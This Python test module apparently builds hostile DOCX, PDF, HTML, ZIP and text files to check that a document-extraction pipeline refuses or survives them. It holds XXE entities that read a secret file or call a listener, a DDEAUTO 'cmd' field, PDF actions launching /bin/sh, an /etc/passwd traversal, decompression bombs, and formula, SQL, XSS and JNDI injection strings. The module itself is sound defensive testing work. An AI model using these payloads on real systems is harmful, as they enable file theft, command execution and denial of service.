"""Hostile files, made here and nowhere kept: what a corpus of unknown origin may hold.

Each has the outcomes that are right for it, ``status`` or ``status(reason)``; ``scale`` makes the
large ones larger. Nothing in them is real.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from typing import NamedTuple
from warnings import catch_warnings, simplefilter

import fpdf
from fpdf.enums import EncryptionMethod

from tests import builders
from tests.builders import docx_xml, w_p, w_tbl, w_tc, zip_of

MARKER = "KXQ-7731-不该出现"  # stands in a file that only an external entity could reach
FIGURE = "青禾县2022年支出12.5万元。"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_XML = '<?xml version="1.0" encoding="UTF-8"?>'
_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


class Hostile(NamedTuple):
    """One file and how it may end."""

    name: str
    data: bytes
    outcomes: frozenset[str]


def files(secret: str, address: str, scale: int = 1) -> Iterator[Hostile]:
    """All of them; ``secret`` is the path of a file with the marker, ``address`` a listener."""
    for group in (
        _docx_bombs(scale),
        _docx_entities(secret, address),
        _docx_tables(scale),
        _docx_packages(address),
        _wrong_types(),
        _other_formats(scale, secret, address),
        _pdf_bombs(scale),
        _pdf_pages(scale),
        _pdf_loops(),
        _pdf_locks(),
        _pdf_oddities(address),
        _texts(scale),
        _encodings(),
        _look_alikes(),
        _payloads(),
    ):
        for name, data, outcomes in group:
            yield Hostile(name, data, frozenset(outcomes.split(" | ")))


_Made = Iterator[tuple[str, bytes, str]]
READ = "ok"
READ_IN_PART = "ok | partial(limit) | partial(timeout) | partial(memory) | partial(page_errors)"
NO_TEXT = "empty(no_text) | empty(scanned)"
GIVEN_UP = "memory | timeout"


# --- Word -------------------------------------------------------------------------------------


def _docx_bombs(scale: int) -> _Made:
    letters = w_p("a" * (12 * 2**20 * scale))
    yield "d01-one-long-node.docx", docx_xml(w_p(FIGURE) + letters), "refused(zip_ratio)"
    many = "<w:p><w:r><w:t>a</w:t></w:r></w:p>" * (100_000 * scale)
    yield "d02-many-paragraphs.docx", docx_xml(many), f"{READ_IN_PART} | refused(zip_ratio)"
    zeros = bytes(20 * 2**20 * scale)
    loose = _with(docx_xml(w_p(FIGURE)), {"word/media/image1.png": zeros})
    yield "d03-picture-of-zeros.docx", loose, READ
    rels = _relations(("image", "media/image1.png", ""))
    related = _with(loose, {"word/_rels/document.xml.rels": rels})
    yield "d03-picture-of-zeros-related.docx", related, READ


def _docx_entities(secret: str, address: str) -> _Made:
    laughs = "".join(
        f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)
    )  # each ten times the one before
    prologs = {
        "d04-billion-laughs": f'<!DOCTYPE d [<!ENTITY l0 "ha">{laughs}]>',
        "d04-quadratic": f'<!DOCTYPE d [<!ENTITY l9 "{"a" * 100_000}">]>',
        "d05-file": f'<!DOCTYPE d [<!ENTITY l9 SYSTEM "file://{secret}">]>',
        "d05-net": f'<!DOCTYPE d [<!ENTITY l9 SYSTEM "http://{address}/x">]>',
        "d05-parameter": f'<!DOCTYPE d [<!ENTITY % p SYSTEM "http://{address}/p"> %p;]>',
        "d05-doctype": f'<!DOCTYPE d SYSTEM "http://{address}/d.dtd">',
        "d06-in-an-amount": '<!DOCTYPE d [<!ENTITY l9 "34">]>',
    }
    for name, prolog in prologs.items():
        body = "支出12&l9;.5万元。" * (200 if "quadratic" in name else 1)
        if "parameter" in name or "doctype" in name:
            body = FIGURE
        yield f"{name}.docx", docx_xml(w_p(body), prolog=prolog), "refused(doctype)"


def _docx_tables(scale: int) -> _Made:
    for depth, outcomes in (
        (60, "ok | refused(depth)"),
        (400, "ok | refused(depth)"),
        (5_000, "refused(depth)"),
    ):
        opened = "<w:tbl><w:tr><w:tc>" * depth
        closed = "<w:p/></w:tc></w:tr></w:tbl>" * depth
        nested = w_p(FIGURE) + opened + w_p("1") + closed
        yield f"d07-nested-{depth}.docx", docx_xml(nested), outcomes
    spans = ("100000000", "0", "-1", "abc", "", "9" * 5_000)
    rows = [[w_tc("甲", f'<w:gridSpan w:val="{span}"/>'), w_tc("1")] for span in spans]
    rows += [[w_tc("乙", '<w:vMerge w:val="continue"/>'), w_tc("2", "<w:vMerge/>")]]
    yield "d08-spans.docx", docx_xml(w_p(FIGURE) + w_tbl(*rows)), READ
    large = w_tbl(*[[w_tc(str(column)) for column in range(60)]] * (60 * scale))
    yield (
        "d08-large-table.docx",
        docx_xml(w_p(FIGURE) + large),
        f"{READ_IN_PART} | refused(size) | refused(zip_ratio)",
    )


def _docx_packages(address: str) -> _Made:
    plain = docx_xml(w_p(FIGURE))
    links = _relations(
        ("attachedTemplate", f"http://{address}/t.dotm", "External"),
        ("image", f"http://{address}/i.png", "External"),
        ("oleObject", "file:///etc/hostname", "External"),
        ("vbaProject", "vbaProject.bin", ""),
    )
    field = '<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd "/k calc"</w:instrText></w:r></w:p>'
    active = _with(
        docx_xml(w_p(FIGURE) + field),
        {"word/_rels/document.xml.rels": links, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 99},
    )
    yield "d09-links-and-macros.docx", active, READ
    for number, name in enumerate(("../../x", "/abs/x", "C:\\x", "..\\x")):
        yield f"d10-name-{number}.docx", _with(plain, {name: b"x"}), "refused(zip_path)"
    yield (
        "d10-many-members.docx",
        _with(plain, {f"m{i}": b"" for i in range(6_000)}),
        "refused(zip_members)",
    )
    yield (
        "d10-twice.docx",
        _with(plain, {"word/document.xml": docx_xml_body()}),
        "ok | corrupt(zip) | corrupt(xml)",
    )
    yield "d10-lying-size.docx", _lying(plain), "corrupt(zip) | corrupt(xml) | ok"
    yield (
        "d10-overlapping.docx",
        _overlapping(plain),
        "ok | corrupt(zip) | corrupt(xml) | refused(zip_ratio)",
    )
    lost = _with(plain, {"_rels/.rels": _relations(("officeDocument", "word/none.xml", ""))})
    yield "d10-target-lost.docx", lost, "ok | corrupt(part)"
    null = _with(plain, {"word/_rels/document.xml.rels": _relations(("image", "NULL", ""))})
    yield "d10-target-null.docx", null, READ
    yield "d11-half.docx", plain[: len(plain) // 2], "corrupt(zip)"
    yield (
        "d11-crc-elsewhere.docx",
        _broken(_with(plain, {"word/theme.xml": b"<t/>" * 999}), b"theme"),
        READ,
    )
    yield "d11-crc-in-text.docx", _broken(plain, b"document.xml"), "corrupt(zip) | corrupt(xml)"
    wide = docx_xml_body(FIGURE).decode().replace("UTF-8", "UTF-16").encode("utf-16")
    yield "d11-utf-16.docx", zip_of({"word/document.xml": wide}), READ
    yield "d11-strict.docx", docx_xml(w_p(FIGURE), strict=True), READ


def docx_xml_body(text: str = "别的") -> bytes:
    """The XML of a main part by itself."""
    return f'{_XML}<w:document xmlns:w="{_W}"><w:body>{w_p(text)}</w:body></w:document>'.encode()


def _with(package: bytes, members: dict[str, bytes]) -> bytes:
    """The package with more members, whatever it has already."""
    stream = io.BytesIO(package)
    with zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as archive, catch_warnings():
        simplefilter("ignore")  # names that are there twice are meant so
        for name, data in members.items():
            info = zipfile.ZipInfo("x")
            info.filename = name  # as written: the constructor would mend it
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return stream.getvalue()


def _relations(*targets: tuple[str, str, str]) -> bytes:
    told = "".join(
        f'<Relationship Id="r{i}" Type="{_RELS}/{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"/>' if mode else "/>")
        for i, (kind, target, mode) in enumerate(targets)
    )
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'{_XML}<Relationships xmlns="{space}">{told}</Relationships>'.encode()


def _lying(package: bytes) -> bytes:
    """Sizes in the central directory that are not those of the members."""
    at = package.rindex(b"PK\x01\x02")
    return package[: at + 24] + struct.pack("<I", 7) + package[at + 28 :]


def _overlapping(package: bytes) -> bytes:
    """Two names for the same bytes."""
    first, last = package.index(b"PK\x01\x02"), package.rindex(b"PK\x01\x02")
    offset = package[first + 42 : first + 46]
    return package[: last + 42] + offset + package[last + 46 :]


def _broken(package: bytes, name: bytes) -> bytes:
    """One flipped byte in the data of a member."""
    at = package.index(name) + len(name) + 8
    return package[:at] + bytes([package[at] ^ 0xFF]) + package[at + 1 :]


# --- what is not what its name says -----------------------------------------------------------


def _wrong_types() -> _Made:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    yield "d11-ole.docx", ole, "corrupt(ole) | corrupt(doc) | unsupported(ole)"
    locked = "EncryptedPackage".encode("utf-16-le")
    entry = locked.ljust(64, b"\0") + struct.pack("<HB", len(locked) + 2, 2)
    yield "d11-locked.docx", ole + entry, "encrypted"
    page = "<html><body><p>青禾县2022年支出12.5万元。</p></body></html>".encode("gbk")
    yield "d11-page.doc", b'<meta charset="gbk">' + page, "ok | unsupported(html)"
    yield "d11-rtf.docx", b"{\\rtf1\\ansi 12.5}", "ok | unsupported(rtf)"
    missing = "<html><head><title>404</title></head><body>页面不存在</body></html>".encode("gbk")
    yield "p06-page-404.pdf", missing, f"ok | unsupported(html) | {NO_TEXT}"
    yield "p06-picture.pdf", b"\xff\xd8\xff\xe0" + bytes(200), "unsupported(image) | corrupt(image)"
    yield "p06-nothing.pdf", b"", "empty(zero_bytes)"
    yield "p06-header.pdf", b"%PDF-1.7\n", "corrupt(pdf)"
    whole = builders.pdf_of([FIGURE, [["甲", "乙"], ["1", "2"]]] * 3)
    yield (
        "p06-sixty-percent.pdf",
        whole[: len(whole) * 6 // 10],
        f"corrupt(pdf) | {NO_TEXT} | {READ_IN_PART}",
    )
    yield "p06-junk-before.pdf", b"junk\n" * 100 + whole, "ok | corrupt(pdf)"
    yield (
        "p06-much-junk-before.pdf",
        bytes(range(256)) * 8 + whole,
        "ok | unsupported(binary) | corrupt(pdf)",
    )


def _other_formats(scale: int, secret: str, address: str) -> _Made:
    """Formats that have loaders, or words for having none."""
    page = "<!doctype html><html><body><p>" + FIGURE * 9 + "</p>{}</body></html>"
    html = "ok | partial(limit) | refused(depth) | refused(size) | unsupported(html)"
    deep = "<div>" * (20_000 * scale) + "1" + "</div>" * (20_000 * scale)
    yield "x01-deep.html", page.format(deep).encode(), html
    wide = '<table><tr><td colspan="1000000000" rowspan="1000000000">1</td></tr></table>'
    yield "x01-wide-cell.html", page.format(wide).encode(), html
    calls = f'<img src="http://{address}/i"><script src="http://{address}/s"></script>'
    yield "x01-calls.html", page.format(f'{calls}<iframe src="file://{secret}">').encode(), html
    yield "x01-many-tables.html", page.format("<table><tr><td>1" * (500 * scale)).encode(), html
    rtf = f"ok | corrupt(rtf) | refused(depth) | unsupported(rtf) | {NO_TEXT}"
    yield "x02-deep.rtf", b"{\\rtf1 " + b"{" * (50_000 * scale) + b"12.5 yuan", rtf
    yield "x02-bin.rtf", b"{\\rtf1 12.5 yuan \\bin2000000000 x}", rtf
    yield "x02-numbers.rtf", b"{\\rtf1 12.5 yuan \\u" + b"9" * 5_000 + b" \\'zz}", rtf
    ofd = f'{_XML}<!DOCTYPE d [<!ENTITY l9 SYSTEM "file://{secret}">]><OFD>&l9;</OFD>'
    yield "x03-entity.ofd", zip_of({"OFD.xml": ofd.encode()}), "refused(doctype) | unsupported(ofd)"
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    sheet = (
        f'{_XML}<worksheet xmlns="{space}"><dimension ref="A1:XFD1048576"/><sheetData>'
        '<row r="1048576"><c r="XFD1048576"><v>12.5</v></c></row></sheetData></worksheet>'
    )
    book = (
        f'{_XML}<workbook xmlns="{space}" xmlns:r="{_RELS}"><sheets>'
        '<sheet name="a" sheetId="1" r:id="r0"/></sheets></workbook>'
    )
    workbook = {
        "_rels/.rels": _relations(("officeDocument", "xl/workbook.xml", "")),
        "xl/workbook.xml": book.encode(),
        "xl/_rels/workbook.xml.rels": _relations(("worksheet", "worksheets/sheet1.xml", "")),
        "xl/worksheets/sheet1.xml": sheet.encode(),
    }
    far = f"ok | refused(size) | partial(limit) | unsupported(xlsx) | corrupt(xlsx) | {NO_TEXT}"
    yield "x04-far-cell.xlsx", zip_of(workbook), far
    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 0, 0, 0, 0)
    chunk = b"IHDR" + head
    picture = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + chunk
    picture += struct.pack(">I", zlib.crc32(chunk))
    yield "x05-huge.png", picture, "refused(size) | unsupported(image) | corrupt(image)"
    inner = zip_of({"a.txt": FIGURE.encode()})
    for _ in range(8):
        inner = zip_of({"in.zip": inner})
    bundle = "ok | unsupported(zip) | refused(depth)"
    yield "x06-deep.zip", inner, bundle
    zeros = zip_of({"a.txt": bytes(30 * 2**20 * scale), "b.txt": FIGURE.encode()})
    yield "x06-zeros.zip", zeros, f"{bundle} | refused(zip_ratio)"
    out = _with(zip_of({"b.txt": FIGURE.encode()}), {"../../x.txt": b"1"})
    yield "x06-path.zip", out, "refused(zip_path)"


# --- PDF --------------------------------------------------------------------------------------


def pdf_raw(objects: dict[int, bytes], *, trailer: bytes = b"") -> bytes:
    """A PDF of the given objects, 1 the catalogue; streams come with their own dictionaries."""
    out, offsets = bytearray(b"%PDF-1.7\n"), {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets.get(number, 0)
    out += b"trailer\n<</Size %d/Root 1 0 R%b>>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start)
    return bytes(out)


def _stream(data: bytes, more: bytes = b"", length: int | None = None) -> bytes:
    told = len(data) if length is None else length
    return b"<</Length %d%b>>stream\n%b\nendstream" % (told, more, data)


def _one_page(
    content: bytes, *, page: bytes = b"", root: bytes = b"", more: dict[int, bytes] | None = None
) -> bytes:
    """A PDF of one page with a content stream (with its dictionary) and Helvetica."""
    return pdf_raw(
        {
            1: b"<</Type/Catalog/Pages 2 0 R%b>>" % root,
            2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R"
            b"/Resources<</Font<</F 5 0 R>>/XObject<</X 6 0 R>>>>%b>>" % page,
            4: content,
            5: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
            **(more or {}),
        }
    )


SHOWN = b"BT /F 12 Tf 50 700 Td (spent 12.5 in 2022) Tj ET\n"


def _pdf_bombs(scale: int) -> _Made:
    size = 2**20 * 60 * scale
    fallen = (
        f"{READ_IN_PART} | {GIVEN_UP} | {NO_TEXT} | corrupt(pdf) | crash(SIGABRT) | crash(SIGTRAP)"
    )
    once = zlib.compress(SHOWN + b" " * size, 9)
    yield "p01-flate.pdf", _one_page(_stream(once, b"/Filter/FlateDecode")), fallen
    twice = zlib.compress(zlib.compress(SHOWN + b" " * (size * 4), 9), 9)
    filters = b"/Filter[/FlateDecode/FlateDecode]"
    yield "p01-flate-in-flate.pdf", _one_page(_stream(twice, filters)), fallen
    run = SHOWN + b"\n"
    lengths = bytes([len(run) - 1]) + run + b"\x81 " * (10**5 * scale) + b"\x80"
    yield "p01-run-length.pdf", _one_page(_stream(lengths, b"/Filter/RunLengthDecode")), fallen
    image = b"/Type/XObject/Subtype/Image/Width 60000/Height 60000"
    image += b"/ColorSpace/DeviceRGB/BitsPerComponent 8"
    drawn = _one_page(
        _stream(SHOWN + b"q 500 0 0 700 0 0 cm /X Do Q"),
        more={6: _stream(once, image + b"/Filter/FlateDecode")},
    )
    yield "p01-huge-picture.pdf", drawn, fallen
    only = _one_page(
        _stream(b"q 500 0 0 700 0 0 cm /X Do Q"),
        more={6: _stream(once, image + b"/Filter/FlateDecode")},
    )
    yield "p01-huge-picture-alone.pdf", only, fallen


def _pdf_pages(scale: int) -> _Made:
    count = 300 * scale
    kids = b" ".join(b"%d 0 R" % (2 * i + 5) for i in range(count))
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[%b]/Count %d>>" % (kids, count),
        3: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        4: b"null",
    }
    for i in range(count):
        word = bytes(97 + i // 26**place % 26 for place in range(4))
        line = b"BT /F 12 Tf 50 500 Td (spent %d.5 on %b) Tj ET" % (i, word)
        objects[2 * i + 5] = (
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents %d 0 R"
            b"/Resources<</Font<</F 3 0 R>>>>>>" % (2 * i + 6)
        )
        objects[2 * i + 6] = _stream(line)
    yield "p02-many-pages.pdf", pdf_raw(objects), READ_IN_PART
    fallen = f"{READ_IN_PART} | {GIVEN_UP} | {NO_TEXT}"
    many = {
        "p03-characters": b"BT /F 1 Tf 0 0 Td (%b) Tj ET" % (b"7" * (20_000 * scale)),
        "p03-lines": b"".join(
            b"%d %d m %d %d l S " % (i % 600, i % 800, i % 599, i % 797)
            for i in range(20_000 * scale)
        ),
        "p03-rules": b"".join(
            b"%d 0 m %d 800 l S 0 %d m 600 %d l S " % (i % 600, i % 600, i % 800, i % 800)
            for i in range(2_000 * scale)
        ),
        "p03-rectangles": b"".join(
            b"%d %d 9 9 re S " % (i % 600, i // 600 * 3) for i in range(4_000 * scale)
        ),
        "p03-states": b"q " * (50_000 * scale),
    }
    for name, content in many.items():
        packed = _stream(zlib.compress(SHOWN + content), b"/Filter/FlateDecode")
        yield f"{name}.pdf", _one_page(packed), fallen


def _pdf_loops() -> _Made:
    fallen = f"{READ_IN_PART} | corrupt(pdf) | {NO_TEXT} | {GIVEN_UP} | crash(RecursionError)"
    base = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R"
        b"/Resources<</Font<</F 5 0 R>>>>>>",
        4: _stream(SHOWN),
        5: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    }
    kids = b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>"
    pages = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
    whole = pdf_raw({**base, 2: pages})
    start = whole.rindex(b"xref\n0")
    yield "p04-kids-loop.pdf", pdf_raw({**base, 2: kids}), fallen
    yield "p04-prev-loop.pdf", pdf_raw({**base, 2: pages}, trailer=b"/Prev %d" % start), fallen
    yield (
        "p04-count.pdf",
        pdf_raw({**base, 2: b"<</Type/Pages/Kids[3 0 R]/Count 2000000000>>"}),
        fallen,
    )
    yield "p04-length.pdf", _one_page(_stream(SHOWN, length=10**11)), fallen
    yield "p04-object-loop.pdf", pdf_raw({**base, 2: pages, 4: b"4 0 R"}), fallen
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>"
    yield (
        "p04-form-loop.pdf",
        _one_page(_stream(SHOWN + b"/X Do"), more={6: _stream(b"/X Do", form)}),
        fallen,
    )
    line = b"<</Title(a)/Parent 6 0 R/Next 7 0 R/Prev 7 0 R>>"
    loop = {6: b"<</First 7 0 R/Last 7 0 R/Count 1>>", 7: line}
    yield (
        "p04-outline-loop.pdf",
        _one_page(_stream(SHOWN), root=b"/Outlines 6 0 R", more=loop),
        fallen,
    )
    deep = b"[" * 200_000 + b"]" * 200_000
    yield (
        "p04-deep-arrays.pdf",
        _one_page(_stream(SHOWN), page=b"/Annots 6 0 R", more={6: deep}),
        fallen,
    )
    held = _stream(b"7 0 <</Type/ObjStm>>", b"/Type/ObjStm/N 1/First 4/Extends 6 0 R")
    yield "p04-object-stream-loop.pdf", _one_page(_stream(SHOWN), more={6: held}), fallen


def _pdf_locks() -> _Made:
    shut = builders.pdf_of([FIGURE], password="shut")  # noqa: S106  it keeps nothing
    yield "p05-user.pdf", shut, "encrypted"
    methods = {"owner-rc4": EncryptionMethod.RC4, "owner-aes": EncryptionMethod.AES_256}
    for name, method in methods.items():
        pdf = builders.new_pdf()
        pdf.set_encryption("mine", encryption_method=method)
        pdf.add_page()
        builders.add_part(pdf, FIGURE)
        yield f"p05-{name}.pdf", bytes(pdf.output()), READ
    known = b"/Encrypt<</Filter/Unheard/V 9/R 9/O(a)/U(b)/P 0>>/ID[(a)(b)]"
    plain = _one_page(_stream(SHOWN))
    unknown = plain.replace(b"/Root 1 0 R", b"/Root 1 0 R" + known)
    yield "p05-unknown.pdf", unknown, "encrypted | corrupt(pdf)"


def _pdf_oddities(address: str) -> _Made:
    font = b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/..#2f..#2fetc#2fpasswd"
    font += b"/DescendantFonts[7 0 R]>>"
    below = b"<</Type/Font/Subtype/CIDFontType0/BaseFont/A"
    below += b"/CIDSystemInfo<</Registry(Adobe)/Ordering(GB1)/Supplement 0>>>>"
    text = _stream(SHOWN)
    fallen = f"{READ_IN_PART} | {NO_TEXT} | corrupt(pdf)"
    yield "p07-cmap-name.pdf", _one_page(text, more={5: font, 7: below}), fallen
    form = f'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://{address}/x"><xdp/>'.encode()
    xfa = b"/AcroForm<</XFA 6 0 R/Fields[]>>"
    yield "p07-xfa.pdf", _one_page(text, root=xfa, more={6: _stream(form)}), fallen
    script = (
        b'/OpenAction<</S/JavaScript/JS(app.launchURL\\("http://%b/j"\\);)>>' % address.encode()
    )
    yield "p07-script.pdf", _one_page(text, root=script), READ
    link = b"/OpenAction<</S/URI/URI(http://%b/u)>>" % address.encode()
    yield "p07-link.pdf", _one_page(text, root=link), READ
    launch = b"/OpenAction<</S/Launch/F(/bin/sh)>>"
    yield "p07-launch.pdf", _one_page(text, root=launch), READ
    pdf = fpdf.FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=12)
    pdf.cell(text="spent 12.5 in 2022")
    pdf.embed_file(basename="x.exe", bytes=b"MZ" + bytes(999))
    yield "p07-embedded-file.pdf", bytes(pdf.output()), READ
    hidden = SHOWN + b"BT 3 Tr /F 12 Tf 50 700 Td (spent 99.9 in 2022) Tj ET\n"
    yield "p07-invisible-layer.pdf", _one_page(_stream(hidden)), READ
    actual = b"/Span<</ActualText(spent 99.9)>>BDC " + SHOWN + b"EMC"
    yield "p07-actual-text.pdf", _one_page(_stream(actual)), READ


# --- text -------------------------------------------------------------------------------------


def _texts(scale: int) -> _Made:
    budget = f"{READ_IN_PART} | {GIVEN_UP}" if scale > 1 else READ
    shapes = {
        "one-line": "县" * (100_000 * scale),
        "one-letter-lines": "7\n" * (10_000 * scale),
        "digits": "7" * (500_000 * scale),
        "blanks": "县" + " " * (50_000 * scale) + "1",
        "amounts": "支出5.2万元，" * (3_000 * scale),
        "shares": "占总支出的3%，" * (1_000 * scale),
        "respectively": "分别为" + "1元、" * (5_000 * scale) + "。",
        "brackets": "（《“" * (30_000 * scale),
        "contents": "目录\n" + "".join(f"第{i}章……{i}\n" for i in range(1_000 * scale)),
        "rows": "项目\t1\t2\n" * (2_000 * scale),
        "one-row": "1\t" * (10_000 * scale),
        "sums": "1+2=3×" * (2_000 * scale),
    }
    for name, text in shapes.items():
        yield f"t01-{name}.txt", f"{FIGURE}\n{text}".encode(), budget


def _encodings() -> _Made:
    text = FIGURE * 20
    half = text.encode() + text.encode("gbk")
    surrogates = "支出\ud83d\ude0012.5万元。".encode("utf-8", "surrogatepass") * 9
    made = {
        "nul": text.replace("支", "\0支").encode(),
        "controls": text.replace("支", "\x85\x9b支").encode(),
        "half-gbk": half,
        "gb18030-unassigned": text.encode("gb18030") + b"\x84\x31\xa4\x37" * 9,
        "surrogates": surrogates,
        "utf-16-bare": text.encode("utf-16-le"),
        "utf-32": text.encode("utf-32"),
        "big5": "青禾縣支出12.5萬元，執行率為百分之九十，預算的執行。".encode("big5") * 9,
        "hz": b"~{VPND~}12.5",
        "false-charset": b'<meta charset="big5">\n' + text.encode(),
    }
    for name, data in made.items():
        yield f"t02-{name}.txt", data, "ok | unsupported(binary) | unsupported(html)"


def _look_alikes() -> _Made:
    numbers = {
        "zero-width": "12\u200b.\u200d5\ufeff",
        "soft-hyphen": "1\xad2.5",
        "turned": "\u202e12.5\u202c",
        "full-width": "１２．５",
        "circled": "①②",
        "arabic": "١٢",
        "radicals": "\u2f2012.5",
        "nbsp": "12.5\xa0\u3000",
        "infinite": "9" * 400,
        "exponent": "1e999",
    }
    for name, number in numbers.items():
        yield f"t03-{name}.txt", f"青禾县2022年支出{number}万元。".encode(), READ


def _payloads() -> _Made:
    payloads = (
        '=cmd|"/c calc"!A0', "@SUM(1+1)", "+1", "-1+1", "\t=1", "<script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>', "javascript:alert(1)", "</template>", "{{7*7}}", "]]>",
        "\x1b[31m红", "标题\u2028第二行", "${jndi:ldap://x}", "'; DROP TABLE facts; --",
    )  # fmt: skip
    for number, payload in enumerate(payloads):
        yield f"t04-payload-{number:02}.txt", f"{payload}\n{payload}支出12.5万元。\n".encode(), READ
